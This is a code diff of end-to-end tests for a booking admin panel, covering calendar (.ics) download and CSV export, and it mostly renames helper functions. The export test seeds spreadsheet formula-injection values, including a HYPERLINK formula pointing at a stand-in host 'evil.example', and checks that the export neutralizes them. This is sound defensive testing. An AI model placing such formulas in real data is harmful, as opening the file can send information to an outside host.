@@ -3,24 +3,24 @@ import papa from 'papaparse';
 import type { Download } from 'playwright-core';
 import { expect } from 'vitest';
 import { dayInRiyadh } from '../../../cms/tests/fixtures/submissions.ts';
-import { entries, entryOf, notice, walk } from './bookings.ts';
-import { guestsFrom } from './test.ts';
+import { bookingTest, entries, entryOf, notice } from './bookings.ts';
+import { deviceCases } from './test.ts';
 
 const textOf = async (download: Download): Promise<string> => (await buffer(await download.createReadStream())).toString();
 
-walk.for(guestsFrom('en'))(
+bookingTest.for(deviceCases('en'))(
   'downloads a booking as a calendar entry, on a $device in $spoken',
   async ({ language, device }, { visit, bookings }) => {
     const booking = await bookings.book({
       name: 'عبدالله، القحطاني; الأب',
       message: 'حفل مسائي في الهواء الطلق لنحو 120 ضيفاً.\nهل يمكن إضافة مصوّرة ثانية؟',
     });
-    const scene = await visit({ language, device });
-    const { page, words } = scene;
-    await bookings.look(scene);
+    const tab = await visit({ language, device });
+    const { page, translate } = tab;
+    await bookings.openList(tab);
     const downloading = page.waitForEvent('download');
-    await entryOf(scene, booking.name)
-      .getByRole('button', { name: words('admin.bookings.addToCalendar') })
+    await entryOf(tab, booking.name)
+      .getByRole('button', { name: translate('admin.bookings.addToCalendar') })
       .click();
     const download = await downloading;
     expect(download.suggestedFilename()).toBe(`booking-${booking.date}.ics`);
@@ -30,7 +30,7 @@ walk.for(guestsFrom('en'))(
       'METHOD:PUBLISH',
       `UID:${booking._id}@${new URL(page.url()).hostname}`,
       `DTSTART;VALUE=DATE:${day}`,
-      `SUMMARY:${words('package.wedding')}: عبدالله، القحطاني\\; الأب`,
+      `SUMMARY:${translate('package.wedding')}: عبدالله، القحطاني\\; الأب`,
       `LOCATION:${booking.location}`,
       'STATUS:TENTATIVE',
     ])
@@ -39,26 +39,29 @@ walk.for(guestsFrom('en'))(
     expect(description).toContain(`${booking.phone}\\n`);
     expect(description).toContain(booking.email);
     expect(description).toContain('حفل مسائي في الهواء الطلق لنحو 120 ضيفاً.\\nهل يمكن إضافة مصوّرة ثانية؟');
-    await notice(scene, words('admin.bookings.calendarSaved')).waitFor();
+    await notice(tab, translate('admin.bookings.calendarSaved')).waitFor();
   },
 );
 
-walk.for(guestsFrom('ar'))(
+bookingTest.for(deviceCases('ar'))(
   'exports the shown bookings as a spreadsheet, on a $device in $spoken',
   async ({ language, device }, { visit, bookings }) => {
     const hostile = await bookings.book({
-      name: `=HYPERLINK("http://evil.example/${bookings.word}","Sara")`,
+      name: `=HYPERLINK("http://evil.example/${bookings.searchTerm}","Sara")`,
       phone: '0550123456',
       location: '@SUM(A1)',
       message: '+1+1\n"quoted", and more\n=2',
     });
-    const arabic = await bookings.book({ name: `سارة ${bookings.word}`, message: 'حفلة، عائلية' }, { lang: 'ar', status: 'confirmed' });
-    const scene = await visit({ language, device });
-    const { page, words } = scene;
-    await bookings.look(scene);
-    await expect.poll(() => entries(scene).count()).toBe(2);
+    const arabic = await bookings.book(
+      { name: `سارة ${bookings.searchTerm}`, message: 'حفلة، عائلية' },
+      { lang: 'ar', status: 'confirmed' },
+    );
+    const tab = await visit({ language, device });
+    const { page, translate } = tab;
+    await bookings.openList(tab);
+    await expect.poll(() => entries(tab).count()).toBe(2);
     const downloading = page.waitForEvent('download');
-    await page.getByRole('button', { name: words('admin.bookings.export') }).click();
+    await page.getByRole('button', { name: translate('admin.bookings.export') }).click();
     const download = await downloading;
     expect(download.suggestedFilename()).toBe(`bookings-${dayInRiyadh()}.csv`);
     const file = await textOf(download);
@@ -67,17 +70,17 @@ walk.for(guestsFrom('ar'))(
     expect(errors).toEqual([]);
     const columns = ['received', 'name', 'phone', 'email', 'package', 'date', 'location', 'status', 'language', 'message'] as const;
     expect(data).toEqual([
-      columns.map((column) => words(`admin.bookings.${column}`)),
+      columns.map((column) => translate(`admin.bookings.${column}`)),
       [
         expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d$/u),
         arabic.name,
         `'${arabic.phone}`,
         arabic.email,
-        words('package.wedding'),
+        translate('package.wedding'),
         arabic.date,
         arabic.location,
-        words('admin.bookings.status.confirmed'),
-        words('admin.bookings.language.ar'),
+        translate('admin.bookings.status.confirmed'),
+        translate('admin.bookings.language.ar'),
         arabic.message,
       ],
       [
@@ -85,11 +88,11 @@ walk.for(guestsFrom('ar'))(
         `'${hostile.name}`,
         `'${hostile.phone}`,
         hostile.email,
-        words('package.wedding'),
+        translate('package.wedding'),
         hostile.date,
         `'${hostile.location}`,
-        words('admin.bookings.status.pending'),
-        words('admin.bookings.language.en'),
+        translate('admin.bookings.status.pending'),
+        translate('admin.bookings.language.en'),
         `'${hostile.message}`,
       ],
     ]);
